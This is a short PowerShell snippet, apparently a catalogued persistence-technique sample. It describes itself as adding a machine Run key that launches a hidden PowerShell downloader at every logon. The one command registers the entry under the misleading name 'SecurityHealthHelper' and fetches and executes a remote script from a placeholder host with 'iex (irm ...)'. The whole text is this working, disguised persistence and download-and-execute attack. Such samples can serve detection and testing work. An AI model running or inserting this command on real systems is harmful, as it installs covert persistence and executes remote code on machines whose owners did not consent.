# description: Adds a machine Run key entry that launches a hidden PowerShell downloader at every logon.
# family: persistence
Set-ItemProperty -Path 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'SecurityHealthHelper' `
    -Value 'powershell.exe -w hidden -nop -c "iex (irm https://example.com/r.ps1)"'
